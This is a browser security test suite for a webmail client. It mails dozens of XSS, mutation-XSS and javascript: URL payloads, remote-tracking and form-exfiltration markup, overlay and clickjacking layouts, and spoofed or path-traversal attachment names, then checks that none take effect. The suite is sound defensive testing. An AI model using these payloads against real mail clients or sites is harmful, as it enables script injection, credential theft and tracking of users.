"""Hostile mail in real Chromium: nothing runs, nothing leaves, nothing escapes.

Every message goes the real way: APPENDed to Dovecot, synced, fetched,
parsed and sanitized by the worker, and opened in the reading pane (the
layout payloads also in a conversation and on the print page). The
payloads try to set window.__pwned (in their own frame and the page's) or
to open a dialog, to load something from another origin (a real HTTP
server on loopback), or to cover the page outside the message.
"""

from __future__ import annotations

import re
import unicodedata
import urllib.parse

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.engine.conftest import (  # noqa: F401 (fixtures)
    engine_env,
    engine_settings,
    worker,
)
from tests.fixtures.servers import ImapUser
from tests.ui.conftest import ImageServer
from tests.ui.real_mail import Mailbox, sign_in_to_real_mailbox

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    # What hostile mail can do in the browser, not in the database.
    pytest.mark.pages_only,
    pytest.mark.usefixtures("worker"),
]

# What every script payload does: mark this frame and the page, then shout.
P = "window.__pwned=1;try{top.__pwned=1}catch(e){};alert(1)"
P_ATTR = P.replace('"', "&quot;")


def script_cases(remote: str) -> list[str]:
    return [
        f"<script>{P}</script>",
        f"<SCRIPT>{P}</SCRIPT>",
        f"<script/x>{P}</script>",
        f"<scr<script>ipt>{P}</scr</script>ipt>",
        f"<<script>{P}//<</script>",
        f'<script src="{remote}/x.js"></script>',
        f"<script\t\ntype=text/javascript>{P}</script\t>",
        f"<svg><script>{P}</script></svg>",
        f'<svg><script xlink:href="data:text/javascript,{P}"></script></svg>',
        f'<noscript><p title="</noscript><img src=x onerror={P}>"></p></noscript>',
        f"<!--><script>{P}</script>-->",
        f"<textarea><script>{P}</script></textarea>",
        f'<iframe srcdoc="<script>{P_ATTR}</script>"></iframe>',
        f'<img src=x onerror="{P_ATTR}">',
        f"<IMG SRC=x ONERROR={P}>",
        f'<body onload="{P_ATTR}">',
        f'<div onmouseover="{P_ATTR}" style="width:100%;height:400px">hover</div>',
        f'<svg><animate onbegin="{P_ATTR}" attributeName=x dur=1s></animate></svg>',
        f'<svg onload="{P_ATTR}"><rect width=10 height=10></rect></svg>',
        f'<details open ontoggle="{P_ATTR}"><summary>s</summary></details>',
        f'<input autofocus onfocus="{P_ATTR}">',
        f'<video><source onerror="{P_ATTR}"></video>',
        # Namespace confusion: a parser that disagrees with the browser's
        # about where <style> text ends lets an <img> out.
        f"<svg><style><img src=x onerror={P}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={P}>",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror={P}&gt;">',
        f'<svg></p><style><a id="</style><img src=1 onerror={P}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
        f'<math><mi xlink:href="javascript:{P}">m</mi></math>',
    ]


def url_cases(remote: str) -> list[str]:
    schemes = [
        f"javascript:{P}",
        f"JaVaScRiPt:{P}",
        f"java&#x09;script:{P}",
        f"jav&#x0A;ascript:{P}",
        f"java\tscript:{P}",
        f"java\nscript:{P}",
        f"&#106;&#97;vascript:{P}",
        f"&#x6A;avascript&colon;{P}",
        f"  javascript:{P}",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        f"data:text/html,<script>{P}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ]
    cases = [f'<a href="{url}">link</a>' for url in schemes]
    cases.append(f'<svg><a xlink:href="javascript:{P}"><text y=20>svg</text></a></svg>')
    return cases


def remote_cases(remote: str) -> list[str]:
    return [
        f'<img src="{remote}/pixel.gif" width=1 height=1>',
        f'<img src="{remote.replace("http:", "")}/relative.gif">',
        f'<img srcset="{remote}/srcset.png 1x">',
        f'<picture><source srcset="{remote}/p.png"><img src=""></picture>',
        f'<video poster="{remote}/poster.png"></video><audio src="{remote}/a.mp3">',
        f'<table background="{remote}/table.png"><tr><td>t</td></tr></table>',
        f'<div style="background:url({remote}/bg.png)">bg</div>',
        f"<div style=\"background-image:url('{remote}/bg2.png')\">bg</div>",
        f"<style>@import url({remote}/import.css);</style>",
        f'<link rel=stylesheet href="{remote}/link.css">',
        f"<style>@font-face{{font-family:x;src:url({remote}/f.woff)}}"
        "body{font-family:x}</style>",
        f'<div style="width:expression({P});behavior:url({remote}/x.htc)">ie</div>',
        f'<style>body{{background:url("javascript:{P}")}}</style>',
        f'<meta http-equiv="refresh" content="0;url={remote}/refresh">',
        f'<base href="{remote}/"><img src="rel.png"><a href="rel">rel</a>',
        f'<form action="{remote}/steal" method=post><input name=pw value=x>'
        '<button id="go">Log in</button></form>',
        f'<iframe src="{remote}/frame"></iframe>',
        f'<object data="{remote}/obj"></object>',
        f'<embed src="{remote}/embed">',
    ]


def layout_cases() -> list[str]:
    cover = "top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red"
    return [
        f'<div style="position:fixed;{cover}">overlay</div>',
        f'<div style="position:absolute;{cover}">overlay</div>',
        f'<div style="position:&#102;ixed;{cover}">overlay</div>',
        '<div style="margin-top:-5000px;margin-left:-5000px;width:99999px;'
        'height:99999px;background:red">huge</div>',
        "<style>*{position:fixed!important;inset:0!important}</style>x",
        f'<div style="transform:scale(50);{cover}">scaled</div>',
    ]


def hostile_mail(number: int, html: str) -> bytes:
    return (
        "From: Mallory <mallory@example.net>\r\n"
        "To: victim@example.org\r\n"
        f"Subject: hostile {number}\r\n"
        f"Message-ID: <hostile-{number}@example.net>\r\n"
        "Date: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"<p>[case {number}]</p>\r\n{html}\r\n"
    ).encode()


def pwned(page: Page) -> list[str]:
    """Return the frames (page included) where a payload set its marker."""
    found = []
    for frame in page.frames:
        if frame.evaluate("() => window.__pwned !== undefined"):
            found.append(frame.url)
    return found


def settle(page: Page, frame: Frame) -> None:
    """Give load-time handlers (onerror, onload, onbegin) their chance."""
    box = page.locator("#reader iframe.body").bounding_box()
    assert box
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 40)
    frame.wait_for_load_state("load")
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => setTimeout(r)))")


def open_all(mailbox: Mailbox, count: int) -> dict[int, list[str]]:
    """Open messages 1..count; return what went wrong, by uid."""
    problems: dict[int, list[str]] = {}
    page = mailbox.page
    for uid in range(1, count + 1):
        before = len(mailbox.requests)
        frame = mailbox.open(uid)
        expect(frame.locator("body")).to_contain_text(f"[case {uid - 1}]")
        settle(page, frame)
        found = [f"script ran in {url}" for url in pwned(page)]
        found += [f"dialog: {text}" for text in mailbox.dialogs]
        mailbox.dialogs.clear()
        found += [
            f"request to {url}"
            for url in mailbox.requests[before:]
            if url in mailbox.foreign_requests()
        ]
        # The pane carries the body as the frame's srcdoc.
        if frame.url != "about:srcdoc":
            found.append(f"body frame navigated to {frame.url}")
        if found:
            problems[uid] = found
    return problems


def print_all(mailbox: Mailbox, count: int) -> dict[int, list[str]]:
    """Open the print page of messages 1..count (their markup is inline there)."""
    problems: dict[int, list[str]] = {}
    page = mailbox.page
    for uid in range(1, count + 1):
        before = len(mailbox.requests)
        page.goto(f"{mailbox.folder_url}{uid}/print")
        body = page.locator("div.body")
        expect(body).to_contain_text(f"[case {uid - 1}]")
        box = body.bounding_box()
        assert box
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 20)
        page.evaluate(
            "() => new Promise(r => requestAnimationFrame(() => setTimeout(r)))"
        )
        found = [f"script ran in {url}" for url in pwned(page)]
        found += [f"dialog: {text}" for text in mailbox.dialogs]
        mailbox.dialogs.clear()
        found += [
            f"request to {url}"
            for url in mailbox.requests[before:]
            if url in mailbox.foreign_requests()
        ]
        if found:
            problems[uid] = found
    return problems


def test_no_hostile_script_runs_in_any_frame(
    live_app: str, page: Page, imap_user: ImapUser, other_device, image_server
):
    cases = script_cases(image_server.url(""))
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [hostile_mail(n, html) for n, html in enumerate(cases)],
    )
    problems = open_all(mailbox, len(cases))
    assert problems == {}, {cases[uid - 1]: found for uid, found in problems.items()}
    problems = print_all(mailbox, len(cases))
    assert problems == {}, {cases[uid - 1]: found for uid, found in problems.items()}
    assert image_server.requests == []


def test_dangerous_links_are_gone_and_clicking_what_is_left_runs_nothing(
    live_app: str, page: Page, imap_user: ImapUser, other_device, image_server
):
    cases = url_cases(image_server.url(""))
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [hostile_mail(n, html) for n, html in enumerate(cases)],
    )
    problems = open_all(mailbox, len(cases))
    assert problems == {}, {cases[uid - 1]: found for uid, found in problems.items()}
    bad_schemes: dict[str, list[str]] = {}
    for uid, html in enumerate(cases, start=1):
        frame = mailbox.open(uid)
        hrefs = frame.evaluate(
            "() => [...document.querySelectorAll('[href], [*|href]')]"
            ".map(e => e.getAttribute('href') || e.getAttribute('xlink:href'))"
        )
        unsafe = [
            h for h in hrefs if not re.match(r"(?i)^(https?:|mailto:|#|/)", h.strip())
        ]
        if unsafe:
            bad_schemes[html] = unsafe
        # Clicking what is left (in a new tab, if anywhere) runs nothing.
        links = frame.locator("a")
        for index in range(links.count()):
            links.nth(index).click(no_wait_after=True)
        frame.wait_for_load_state("load")
        for other in page.context.pages:
            other.wait_for_load_state()
            assert not pwned(other), (html, other.url)
            if other is not page:
                other.close()
    assert bad_schemes == {}
    assert mailbox.dialogs == []


def test_remote_content_is_blocked_and_nothing_leaves_our_origin(
    live_app: str,
    page: Page,
    imap_user: ImapUser,
    other_device,
    image_server: ImageServer,
):
    cases = remote_cases(image_server.url(""))
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [hostile_mail(n, html) for n, html in enumerate(cases)],
    )
    problems = open_all(mailbox, len(cases))
    assert problems == {}, {cases[uid - 1]: found for uid, found in problems.items()}
    problems = print_all(mailbox, len(cases))
    assert problems == {}, {cases[uid - 1]: found for uid, found in problems.items()}
    # The login form cannot post anywhere.
    frame = mailbox.open(cases.index(next(c for c in cases if "steal" in c)) + 1)
    button = frame.locator("#go")
    if button.count():
        button.click()
    expect(mailbox.page.locator("#reader iframe.body")).to_be_visible()
    assert mailbox.foreign_requests() == []
    assert image_server.requests == []
    # The blocked pixel is announced, as for any remote image.
    mailbox.open(1)
    expect(page.locator(".remote-bar")).to_be_visible()


def test_nothing_is_drawn_outside_the_reading_pane(
    live_app: str, page: Page, imap_user: ImapUser, other_device
):
    cases = layout_cases()
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [hostile_mail(n, html) for n, html in enumerate(cases)],
    )
    assert open_all(mailbox, len(cases)) == {}
    for uid, html in enumerate(cases, start=1):
        mailbox.open(uid)
        size = page.viewport_size
        assert size
        # Points outside the body frame: the corners, the Star button and a
        # row of the list. Each must hit the page itself, not the frame.
        back = page.locator('#reader [data-action="star"]').bounding_box()
        row = page.locator("#list .row").first.bounding_box()
        frame_box = page.locator("#reader iframe.body").bounding_box()
        assert back and frame_box
        points = [
            (1, 1),
            (size["width"] - 2, 1),
            (1, size["height"] - 2),
            (back["x"] + back["width"] / 2, back["y"] + back["height"] / 2),
        ]
        if row and row["width"] > 0:
            points.append((row["x"] + row["width"] / 2, row["y"] + row["height"] / 2))
        hits = page.evaluate(
            """points => points.map(([x, y]) => {
                const e = document.elementFromPoint(x, y);
                return e ? e.tagName + '.' + e.className : 'none';
            })""",
            points,
        )
        assert not any(hit.startswith("IFRAME") for hit in hits), (html, hits)
        inside = page.evaluate(
            """() => {
                const box = (s) => document.querySelector(s).getBoundingClientRect();
                const f = box('#reader iframe.body'), r = box('#reader');
                return f.left >= r.left && f.top >= r.top &&
                       f.right <= r.right + 1 && f.bottom <= r.bottom + 1;
            }"""
        )
        assert inside, html
        # The toolbar still takes clicks.
        if uid == len(cases):
            page.click('#reader [data-action="star"]')
            expect(page.locator('#reader [data-action="star"]')).to_have_attribute(
                "aria-pressed", "true"
            )


def invisible_link_cases(target: str) -> list[str]:
    """Links a reader cannot see, far larger than the message, on its text."""
    huge = "width:6000px;height:6000px;margin:-3000px 0 0 -3000px"
    return [
        f'<a href="{target}/1" style="display:block;{huge};opacity:0">x</a>',
        f'<a href="{target}/2" style="position:relative;display:inline-block;'
        f'{huge};color:transparent">y</a>',
        f'<div style="float:left;{huge}"><a href="{target}/3" '
        'style="display:block;height:100%">&nbsp;</a></div>',
    ]


# Every view that shows a message's content: the path after the message's
# URL, and the element that holds the content (the message area).
CONTENT_VIEWS = {
    "reading pane": ("", "#reader iframe.body"),
    "conversation": ("thread", "#reader .conversation-message iframe.body"),
    "print": ("print", "div.body"),
}


def outside_points(
    page: Page, area: dict[str, float]
) -> tuple[list[tuple[float, float]], list[tuple[float, float]]]:
    """Points of the viewport around the message area, and those on headers.

    Headers (the subject, the field names) take no click of their own, so
    a click there must do nothing; the other points may be controls.
    """
    size = page.viewport_size
    assert size
    width, height = size["width"], size["height"]
    left, top = area["x"], area["y"]
    right, bottom = left + area["width"], top + area["height"]

    def outside(points: list[tuple[float, float]]) -> list[tuple[float, float]]:
        return [
            (x, y)
            for x, y in points
            if 0 <= x < width
            and 0 <= y < height
            and not (left <= x <= right and top <= y <= bottom)
        ]

    headers = []
    for header in page.locator("h1, h2.subject, dl dt").all():
        box = header.bounding_box()
        if box and box["width"] > 0:
            headers.append((box["x"] + box["width"] / 2, box["y"] + box["height"] / 2))
    around = [
        (1, 1),
        (width - 2, 1),
        (1, height - 2),
        (width - 2, height - 2),
        (left - 4, top + 20),
        (right + 4, top + 20),
        (left + 20, top - 4),
        (left + area["width"] / 2, top - 4),
        (left + 20, bottom + 4),
    ]
    return outside(around + headers), outside(headers)


def test_no_message_takes_a_click_outside_its_area_in_any_view(
    live_app: str, page: Page, imap_user: ImapUser, other_device, image_server
):
    """The reading pane, a conversation and the print page all hold it."""
    cases = invisible_link_cases(image_server.url("/phish")) + layout_cases()
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [hostile_mail(n, html) for n, html in enumerate(cases)],
    )
    problems: dict[str, object] = {}
    for uid, html in enumerate(cases, start=1):
        for view, (rest, selector) in CONTENT_VIEWS.items():
            url = f"{mailbox.folder_url}{uid}/{rest}"
            page.goto(url)
            area = page.locator(selector).first
            if area.evaluate("e => e.tagName") == "IFRAME":
                frame = area.element_handle().content_frame()
                assert frame
                expect(frame.locator("body")).to_contain_text(f"[case {uid - 1}]")
            else:
                expect(area).to_contain_text(f"[case {uid - 1}]")
            box = area.bounding_box()
            assert box
            points, headers = outside_points(page, box)
            assert len(points) >= 4 and headers, (view, points)
            hits = page.evaluate(
                """([selector, points]) => {
                    const area = document.querySelector(selector);
                    return points.filter(([x, y]) => {
                        const e = document.elementFromPoint(x, y);
                        return e && (e === area || area.contains(e));
                    });
                }""",
                [selector, points],
            )
            if hits:
                problems[f"{view}: {html}"] = hits
                continue
            # A click on the headers goes nowhere.
            for x, y in headers:
                page.mouse.click(x, y)
            page.wait_for_timeout(100)
            others = [p.url for p in page.context.pages if p is not page]
            if page.url != url or others or image_server.requests:
                problems[f"{view}: {html}"] = [page.url, others]
            for other in page.context.pages:
                if other is not page:
                    other.close()
    assert problems == {}
    assert image_server.requests == []


def forwarding_mail(number: int, html: str) -> bytes:
    """A plain message with a hostile message attached to it."""
    return (
        (
            "From: Dana <dana@example.org>\r\n"
            "To: victim@example.org\r\n"
            f"Subject: forwarded {number}\r\n"
            "Date: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
            "MIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="f"\r\n\r\n'
            "--f\r\nContent-Type: text/plain\r\n\r\nHave a look.\r\n"
            "--f\r\nContent-Type: message/rfc822\r\n\r\n"
        ).encode()
        + hostile_mail(number, html)
        + b"\r\n--f--\r\n"
    )


def test_an_attached_message_takes_no_click_off_its_own_text(
    live_app: str, page: Page, imap_user: ImapUser, other_device, image_server
):
    """Its headers (in the frame, and on the print page) stay the page's own."""
    cases = invisible_link_cases(image_server.url("/phish")) + layout_cases()
    mailbox = sign_in_to_real_mailbox(
        page,
        live_app,
        imap_user,
        other_device(imap_user),
        [forwarding_mail(n, html) for n, html in enumerate(cases)],
    )
    # The middle of each header line must hit the header, not the message.
    hit_test = """() => {
        document.querySelector('.forwarded-headers').scrollIntoView();
        return [...document.querySelectorAll('.forwarded-headers > *')]
            .map(e => e.getBoundingClientRect())
            .map(r => document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2))
            .filter(e => !e || e.closest('.forwarded-body'))
            .map(e => e ? e.tagName : 'nothing');
    }"""
    problems: dict[str, list[str]] = {}
    for uid, html in enumerate(cases, start=1):
        frame = mailbox.open(uid)
        expect(frame.locator(".forwarded-body")).to_contain_text(f"[case {uid - 1}]")
        hits = frame.evaluate(hit_test)
        page.goto(f"{mailbox.folder_url}{uid}/print")
        expect(page.locator(".forwarded-body")).to_contain_text(f"[case {uid - 1}]")
        hits += page.evaluate(hit_test)
        if hits:
            problems[html] = hits
    assert problems == {}


HOSTILE_NAMES = [
    ("invoice\u202efdp.exe", "exe"),
    ("photo\u200b.jpg\u2066.exe", "exe"),
    ("../../x", None),
    ("..\\..\\windows\\evil.bat", "bat"),
    ("a" * 400 + ".pdf", "pdf"),
    ("report.pdf" + " " * 80 + ".exe", "exe"),
    ("CON.txt", "txt"),
    ('quote"and<angle>.html', "html"),
]


def attachment_mail(names: list[str]) -> bytes:
    parts = []
    for name in names:
        # RFC 2231, so that every character reaches the parser as sent.
        encoded = "utf-8''" + urllib.parse.quote(name, safe="")
        parts.append(
            "--b\r\n"
            "Content-Type: application/octet-stream\r\n"
            f"Content-Disposition: attachment; filename*={encoded}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
            "ZmlsZSBjb250ZW50cw==\r\n"
        )
    return (
        "From: Mallory <mallory@example.net>\r\n"
        "To: victim@example.org\r\n"
        "Subject: your invoice\r\n"
        "Date: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee attached.\r\n"
        + "".join(parts)
        + "--b--\r\n"
    ).encode()


def test_attachment_names_cannot_fake_an_extension_or_a_path(
    live_app: str, page: Page, imap_user: ImapUser, other_device
):
    names = [name for name, _ in HOSTILE_NAMES]
    mailbox = sign_in_to_real_mailbox(
        page, live_app, imap_user, other_device(imap_user), [attachment_mail(names)]
    )
    mailbox.open(1)
    links = page.locator("#reader ul.attachments a[download]")
    expect(links).to_have_count(len(names))
    for index, (name, extension) in enumerate(HOSTILE_NAMES):
        shown = links.nth(index).inner_text()
        with page.expect_download() as download_info:
            links.nth(index).click()
        saved = download_info.value.suggested_filename
        for label, value in (("shown", shown), ("saved", saved)):
            assert not any(unicodedata.category(c) in ("Cf", "Cc") for c in value), (
                name,
                label,
                value,
            )
            assert "/" not in value and "\\" not in value, (name, label, value)
            assert not value.startswith("."), (name, label, value)
            assert len(value) <= 200, (name, label, len(value))
            if extension:
                assert value.rsplit(".", 1)[-1].strip() == extension, (
                    name,
                    label,
                    value,
                )
        # HTML folds runs of spaces; the listing names the saved file.
        assert " ".join(saved.split()) == shown, (name, shown, saved)
